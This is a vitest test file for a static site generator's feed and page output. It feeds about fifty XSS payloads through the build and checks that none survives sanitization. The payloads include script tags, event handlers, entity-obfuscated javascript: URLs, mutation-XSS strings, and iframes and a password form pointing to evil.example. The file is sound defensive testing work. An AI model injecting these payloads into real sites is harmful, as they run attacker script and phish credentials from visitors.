import { readFile } from "node:fs/promises";
import path from "node:path";
import type { Element } from "hast";
import { toHtml } from "hast-util-to-html";
import rehypeParse from "rehype-parse";
import { unified } from "unified";
import { visit } from "unist-util-visit";
import { beforeAll, describe, expect, it } from "vitest";
import { htmlDangers, readBodies, type Bodies } from "../faults/html.js";
import { parseXmlStrictly } from "../support/xml.js";
import { buildSite } from "./site.js";

// The usual XSS payloads, each the body of its own article; a harmless marker paragraph proves the body rendered.
const payloads: Record<string, string> = {
  // Scripts
  "script element": "<script>alert(1)</script>",
  "script with src, upper case": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "script inside svg": "<svg><script>alert(1)</script></svg>",
  "script inside template": "<template><script>alert(1)</script></template>",
  "script after a CDATA end": "]]><script>alert(1)</script>",
  "script in a comment": "<!-- <script>alert(1)</script> -->",
  // Event handlers
  "img onerror": "<img src=x onerror=alert(1)>",
  "img src as code": "<img src=x:alert(1) onerror=eval(src)>",
  "svg onload": "<svg onload=alert(1)><circle r=1 /></svg>",
  "body onload": "<body onload=alert(1)>text</body>",
  "details ontoggle": "<details open ontoggle=alert(1)><summary>s</summary></details>",
  "onclick on a good link": '<a href="https://ok.example/" onclick="alert(1)">x</a>',
  "ONMOUSEOVER upper case": "<p ONMOUSEOVER=alert(1)>x</p>",
  // javascript:, vbscript:, data: URLs
  "javascript: href": '<a href="javascript:alert(1)">x</a>',
  "JaVaScRiPt: mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
  "javascript: decimal entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  "javascript: hex entities and &colon;": '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  "javascript: with an entity tab": '<a href="jav&#x09;ascript:alert(1)">x</a>',
  "javascript: with a newline": '<a href="java\nscript:alert(1)">x</a>',
  "javascript: with leading space and control": '<a href=" &#14; javascript:alert(1)">x</a>',
  "javascript: padded entities": '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  "javascript: img src": '<img src="javascript:alert(1)">',
  "javascript: blockquote cite": '<blockquote cite="javascript:alert(1)">q</blockquote>',
  "vbscript: href": '<a href="vbscript:msgbox(1)">x</a>',
  "VBScript: mixed case": '<a href="VbScRiPt:msgbox(1)">x</a>',
  "data: text/html href": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  "DATA: mixed case href": '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>',
  "data: png image (not allowed by default)": '<img src="data:image/png;base64,iVBORw0KGgo=">',
  "data: svg image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  "srcset with javascript:": '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">',
  "xlink:href": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "Markdown link to javascript:": "[x](javascript:alert(1))",
  "Markdown image from javascript:": "![x](javascript:alert(1))",
  "Markdown autolink javascript:": "<javascript:alert(1)>",
  "Markdown reference link to vbscript:": "[x][r]\n\n[r]: vbscript:msgbox(1)",
  // Embedded documents and active content
  iframe: '<iframe src="https://evil.example/"></iframe>',
  "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  object: '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>',
  embed: '<embed src="https://evil.example/x.swf">',
  applet: '<applet code="Evil.class"></applet>',
  "video poster": '<video poster="javascript:alert(1)"><source src="x.mp4"></video>',
  // Forms
  form: '<form action="https://evil.example/"><input name="password" type="password"><button>Log in</button></form>',
  "button formaction": '<button formaction="javascript:alert(1)">go</button>',
  isindex: '<isindex action="javascript:alert(1)">',
  // Styles and document-level elements
  "style element": "<style>body{background:url(javascript:alert(1))}</style>",
  "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
  "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "base href": '<base href="https://evil.example/">',
  "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
  // Mutation XSS: markup that parses differently once serialized and parsed again
  "math/style mXSS": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "noscript mXSS": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "textarea breakout": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
  "unclosed attribute": '<img src="x" alt="><script>alert(1)</script>',
};

const titles = Object.keys(payloads).map((_, index) => `Payload ${index + 1}`);
const articleFor = (index: number, payload: string) =>
  `---\ntitle: ${titles[index]}\ndate: 2022-02-25\nslug: payload-${index + 1}\n---\nMarker paragraph.\n\n${payload}\n`;

const formats = ["rss", "atom", "json", "archive"] as const;
/** The formats and the article's HTML page. */
const everywhere = [...formats, "page"] as const;

/** The body of an article's HTML page, as a browser parses it: the children of its `div.body`. */
async function pageBody(out: string, slug: string): Promise<string> {
  const tree = unified()
    .use(rehypeParse)
    .parse(await readFile(path.join(out, "2022/02/25", slug, "index.html"), "utf8"));
  let body: Element | undefined;
  visit(tree, "element", (node: Element) => {
    if (node.tagName === "div" && String(node.properties.className) === "body") body = node;
  });
  return toHtml(body!.children);
}

async function buildPayloads(allowDataImages: boolean): Promise<Map<string, Bodies & { page: string }>> {
  const articles = Object.fromEntries(Object.values(payloads).map((payload, index) => [`p${index + 1}.md`, articleFor(index, payload)]));
  const result = await buildSite(articles, { feedLimit: 1000, allowDataImages });
  // Payloads such as <img src=x> name a file "x" beside the article, which is not there: warnings, nothing else.
  expect(result.diagnostics.filter((diagnostic) => !(diagnostic.rule === "missing-asset" && diagnostic.message.includes('"x"')))).toEqual([]);
  expect(result.exitCode).toBe(0);
  const bodies = await readBodies(result.out);
  const withPages = new Map<string, Bodies & { page: string }>();
  for (const [index, title] of titles.entries()) withPages.set(title, { ...bodies.get(title)!, page: await pageBody(result.out, `payload-${index + 1}`) });
  return withPages;
}

describe("no XSS payload survives into any output format", () => {
  let bodies: Map<string, Bodies & { page: string }>;
  beforeAll(async () => {
    bodies = await buildPayloads(false);
  });

  it.each(Object.entries(payloads).map(([name, payload], index) => [name, payload, titles[index]!]))("%s", (_name, _payload, title) => {
    const body = bodies.get(title)!;
    for (const format of everywhere) {
      expect(body[format], format).toContain("Marker paragraph.");
      expect(htmlDangers(body[format]), format).toEqual([]);
    }
  });
});

describe("data: images", () => {
  const png = "data:image/png;base64,iVBORw0KGgo=";
  const site = {
    "a.md": `---\ntitle: Images\ndate: 2022-02-25\n---\n<img src="${png}" alt="png">\n\n<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="svg">\n\n<a href="${png}">link</a>\n`,
  };

  it.each([
    [false, []],
    [true, [png]],
  ])("allowDataImages %s keeps raster data: images only in img src", async (allowDataImages, kept) => {
    const result = await buildSite(site, { allowDataImages });
    expect(result.exitCode).toBe(0);
    const body = (await readBodies(result.out)).get("Images")!;
    for (const format of formats) {
      expect(htmlDangers(body[format], { allowDataImages })).toEqual([]);
      const sources = [...body[format].matchAll(/src="([^"]*)"/g)].map((match) => match[1]);
      expect(sources, format).toEqual(kept);
      expect(body[format]).not.toContain(`href="${png}"`);
    }
  });
});

describe("payloads in front matter text", () => {
  it("stay text: no element in the XML, and the RSS description decodes to HTML without one", async () => {
    const result = await buildSite({
      "a.md": `---\ntitle: "<script>alert(1)</script>Title"\ndate: 2022-02-25\ndescription: "<img src=x onerror=alert(1)> <script>alert(2)</script>"\nimage:\n  src: /a.jpg\n  alt: '"><script>alert(3)</script>'\n---\nBody.\n`,
    });
    expect(result.exitCode).toBe(0);
    const rss = parseXmlStrictly(await readFile(path.join(result.out, "feed.xml"), "utf8"));
    const description = rss.document!.getElementsByTagName("item")[0]!.getElementsByTagName("description")[0]!.textContent!;
    expect(htmlDangers(description)).toEqual([]);
    // Titles are plain text everywhere: markup in one is escaped text, never an element of the feed.
    expect(rss.document!.getElementsByTagName("script").length).toBe(0);
    const feed = JSON.parse(await readFile(path.join(result.out, "feed.json"), "utf8"));
    expect(feed.items[0].title).toMatch(/Title$/);
  });
});
